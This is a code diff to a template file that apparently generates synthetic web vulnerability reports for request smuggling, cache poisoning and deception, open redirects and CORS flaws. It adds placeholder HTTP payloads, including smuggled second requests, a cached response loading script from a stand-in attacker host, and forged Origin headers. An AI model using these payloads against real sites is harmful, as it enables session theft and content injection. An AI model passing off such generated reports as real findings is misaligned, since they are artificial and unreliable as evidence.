@@ -13,14 +13,58 @@ const requestSmuggling: VulnerabilityClass = {
     ['Medium', 1],
   ],
   places: [
-    { method: 'POST', path: '/', parameter: 'Transfer-Encoding', detail: 'CL.TE' },
-    { method: 'POST', path: '/login', parameter: 'Transfer-Encoding', detail: 'TE.TE with a tab' },
-    { method: 'POST', path: '«api»/ping', parameter: 'content-length', detail: 'H2.CL' },
+    {
+      method: 'POST',
+      path: '/',
+      parameter: 'Transfer-Encoding',
+      detail: 'CL.TE',
+      excerpt: `POST / HTTP/1.1
+Host: «host»
+Content-Type: application/x-www-form-urlencoded
+Content-Length: 39
+Transfer-Encoding: chunked
+
+0
+
+GET /«handle» HTTP/1.1
+X-Ignore: x`,
+    },
+    {
+      method: 'POST',
+      path: '/login',
+      parameter: 'Transfer-Encoding',
+      detail: 'TE.CL with a tab in the header',
+      excerpt: `POST /login HTTP/1.1
+Host: «host»
+Content-Length: 4
+Transfer-Encoding:[tab]chunked
+
+2a
+GET /«handle» HTTP/1.1
+X-Ignore: aaaaaaaaa
+0
+
+`,
+    },
+    {
+      method: 'POST',
+      path: '«api»/ping',
+      parameter: 'content-length',
+      detail: 'H2.CL',
+      excerpt: `:method         POST
+:path           «api»/ping
+:authority      «host»
+content-length  0
+
+GET /«handle» HTTP/1.1
+X-Ignore: x`,
+    },
   ],
   titles: [
     'HTTP request smuggling («detail») on «host» captures requests of others',
-    '«Detail» desync between the edge and «framework»',
+    '«detail» desync between the edge and «framework»',
     'Request smuggling via `«parameter»`, front end and back end disagree',
+    'Hidden second request at «path» (`«parameter»`, «detail»)',
   ],
   summaries: [
     'Edge and backend of «host» disagree about where a request ends («detail»). What I put behind it becomes the beginning of the next visitor’s request.',
@@ -35,24 +79,11 @@ const requestSmuggling: VulnerabilityClass = {
   ],
   proofs: [
     [
-      {
-        say: 'Raw, with CRLF at the ends of lines:',
-        lang: 'http',
-        code: `«method» «path» HTTP/1.1
-Host: «host»
-Content-Type: application/x-www-form-urlencoded
-Content-Length: 39
-Transfer-Encoding: chunked
-
-0
-
-GET /«handle» HTTP/1.1
-X-Ignore: x`,
-      },
+      { say: 'Raw, with CRLF at the ends of lines:', lang: 'http', code: '«excerpt»' },
       {
         say: 'Answers on two connections:',
         lang: 'text',
-        code: '1  POST «path»   200  «server»\n2  GET /         404  {"path":"/«handle»"}      <- mine was asked for by the second',
+        code: '1  POST «path»   200  «server»\n2  GET /         404  {"path":"/«handle»"}      <- the second one got the answer to mine',
       },
     ],
   ],
@@ -76,19 +107,89 @@ const cachePoisoning: VulnerabilityClass = {
     ['Medium', 5],
   ],
   places: [
-    { path: '/home/x.css', parameter: 'path', detail: 'cache deception' },
-    { path: '/', parameter: 'X-Forwarded-Scheme', detail: 'an unkeyed header' },
-    { path: '/assets/config.js', parameter: 'cb', detail: 'an unkeyed parameter' },
-    { path: '/«segment»/account;.js', parameter: 'path', detail: 'cache deception with a semicolon' },
+    {
+      path: '/',
+      parameter: 'X-Forwarded-Host',
+      detail: 'a header',
+      excerpt: `GET /?cb=«handle» HTTP/1.1
+Host: «host»
+X-Forwarded-Host: «attacker»
+
+HTTP/1.1 200 OK
+X-Cache: miss
+
+GET /?cb=«handle» HTTP/1.1
+Host: «host»
+
+HTTP/1.1 200 OK
+X-Cache: hit
+Age: 14
+
+<script src="https://«attacker»/bundle.js"></script>`,
+    },
+    {
+      path: '/assets/config.js',
+      parameter: 'callback',
+      detail: 'a parameter',
+      excerpt: `GET /assets/config.js?cb=«handle»&callback=alert(origin)// HTTP/1.1
+Host: «host»
+
+HTTP/1.1 200 OK
+X-Cache: miss
+
+GET /assets/config.js?cb=«handle» HTTP/1.1
+Host: «host»
+
+HTTP/1.1 200 OK
+X-Cache: hit
+
+alert(origin)//({"api":"https://«host»"})`,
+    },
+    {
+      path: '/home/x.css',
+      parameter: 'path',
+      detail: 'the ending of the path',
+      titles: [
+        'Cache deception: «path» stores the page of the victim for everybody',
+        'Personal pages of «host» land in the shared cache (`«path»`)',
+      ],
+      summaries: [
+        'An address such as `«path»` is taken for a static file by the cache and kept, although the application answers with the page of the signed-in user.',
+        'One click of the victim on `https://«host»«path»` leaves their page in the cache, where anybody can fetch it for five minutes.',
+      ],
+      steps: [
+        [
+          'Sign in as `«victim»` and open `https://«host»«path»`. The start page is shown.',
+          'Open the same address in a private window: the page of `«victim»`, without signing in.',
+        ],
+      ],
+      excerpt: `# signed in as «victim»
+GET /home/x.css HTTP/1.1
+Cookie: «cookieName»=«session»
+
+HTTP/1.1 200 OK
+Content-Type: text/html
+X-Cache: miss
+
+# private window, no cookie
+GET /home/x.css HTTP/1.1
+
+HTTP/1.1 200 OK
+X-Cache: hit
+Age: 8
+
+<title>«company»</title> … <span class="account">«victim»</span>`,
+    },
   ],
   titles: [
-    'Web cache poisoning on «host» with «detail»',
-    'Cache deception: «path» stores the page of the victim for everybody',
+    'Web cache poisoning on «host» with `«parameter»`',
     'Unkeyed `«parameter»` poisons «path» for all visitors',
+    'One request changes «path» for everybody («detail» outside the cache key)',
+    'Cache of «host» can be filled by strangers (`«parameter»`)',
   ],
   summaries: [
-    'The cache does not take `«parameter»` into account, the application does («detail»). One request of mine decides what everybody gets for the next five minutes.',
-    'An address such as `«path»` is taken for a static file and kept, although the application answers with the page of the signed-in user.',
+    'The cache does not take «detail» (`«parameter»`) into account, the application does. One request of mine decides what everybody gets for the next five minutes.',
+    '`«parameter»` changes the answer of `«path»` but is not part of the cache key.',
   ],
   steps: [
     [
@@ -97,32 +198,10 @@ const cachePoisoning: VulnerabilityClass = {
       'Ask for the same address without the header: `x-cache: hit`, with my content.',
     ],
   ],
-  proofs: [
-    [
-      {
-        say: 'Poison, then a normal visitor:',
-        lang: 'http',
-        code: `GET «path»?cb=«handle» HTTP/1.1
-Host: «host»
-X-Forwarded-Host: «attacker»
-
-HTTP/1.1 200 OK
-X-Cache: miss
-
-GET «path»?cb=«handle» HTTP/1.1
-Host: «host»
-
-HTTP/1.1 200 OK
-X-Cache: hit
-Age: 14
-
-<script src="https://«attacker»/bundle.js"></script>`,
-      },
-    ],
-  ],
+  proofs: [[{ say: 'One after the other:', lang: 'http', code: '«excerpt»' }]],
   impacts: [
-    'A script of the attacker on the start page for every visitor, until the entry expires, and again after that.',
-    'Pages with «secrets» of signed-in people end up in a shared cache and can be fetched without a cookie.',
+    'Content of the attacker’s choice, or content of other people, is delivered from the cache of «host» until the entry expires, and again after that.',
+    'Every visitor is concerned, without a click on anything strange. Sessions and «secrets» are within reach.',
   ],
   fixes: [
     'Take the header into the cache key or drop it, and send `Cache-Control: no-store` with personal pages.',
@@ -150,16 +229,16 @@ const openRedirect: VulnerabilityClass = {
     { path: '/email/track', parameter: 'u' },
   ],
   titles: [
+    'Open redirect with a backslash at «path» (`«parameter»`)',
+    'Redirect filter of «path» bypassed in five ways',
     'Open redirect on «host»«path» through `«parameter»`',
     'Unvalidated redirect: `«parameter»=//«attacker»`',
-    'Open redirect with a backslash at «path»',
-    'Redirect filter of «path» bypassed with `@`',
   ],
   summaries: [
-    '`«path»` sends visitors to whatever `«parameter»` says. Addresses with two slashes at the beginning pass the check.',
     'The check of `«parameter»` looks for "starts with /", and `/\\«attacker»` does. Browsers read it as another host.',
+    '`«path»` sends visitors to whatever `«parameter»` says. The check knows some bad forms, but not all of them.',
   ],
-  steps: [['Open `https://«host»«path»?«parameter»=/\\«attacker»`.', 'You are on «attacker».']],
+  steps: [['Sign out.', 'Open `https://«host»«path»?«parameter»=/%5C«attacker»`.', 'You are on «attacker».']],
   proofs: [
     [
       {
@@ -202,14 +281,25 @@ const crossOrigin: VulnerabilityClass = {
     ['Low', 2],
   ],
   places: [
-    { path: '«api»/me', parameter: 'Origin', detail: 'any origin is reflected' },
-    { path: '«collection»', parameter: 'Origin', detail: '`null` is allowed' },
-    { path: '«api»/tokens', parameter: 'Origin', detail: 'a suffix is enough' },
+    {
+      path: '«api»/me',
+      parameter: 'Origin',
+      detail: 'any origin is reflected',
+      excerpt: 'https://«attacker»',
+    },
+    { path: '«collection»', parameter: 'Origin', detail: 'the origin `null` is allowed', excerpt: 'null' },
+    {
+      path: '«api»/tokens',
+      parameter: 'Origin',
+      detail: 'only the beginning of the origin is compared',
+      excerpt: 'https://«domain».«attacker»',
+    },
   ],
   titles: [
     'CORS on «host»: «detail» and credentials are allowed',
-    'CORS misconfiguration at «path» lets any site read «many»',
-    'Any website can read `«path»` of a signed-in «customer»',
+    'CORS misconfiguration: any site can read `«path»` of its visitors',
+    'Any website can read `«path»` of a signed-in «customer» («detail»)',
+    'Cross-origin reads of «path» («detail»)',
   ],
   summaries: [
     '«Detail», together with `Access-Control-Allow-Credentials: true`. A page of mine reads `«path»` in the name of its visitor.',
@@ -225,11 +315,11 @@ const crossOrigin: VulnerabilityClass = {
         lang: 'http',
         code: `GET «path» HTTP/2
 Host: «host»
-Origin: https://«domain».«attacker»
+Origin: «excerpt»
 Cookie: «cookieName»=«otherSession»
 
 HTTP/2 200
-Access-Control-Allow-Origin: https://«domain».«attacker»
+Access-Control-Allow-Origin: «excerpt»
 Access-Control-Allow-Credentials: true
 Content-Type: application/json`,
       },
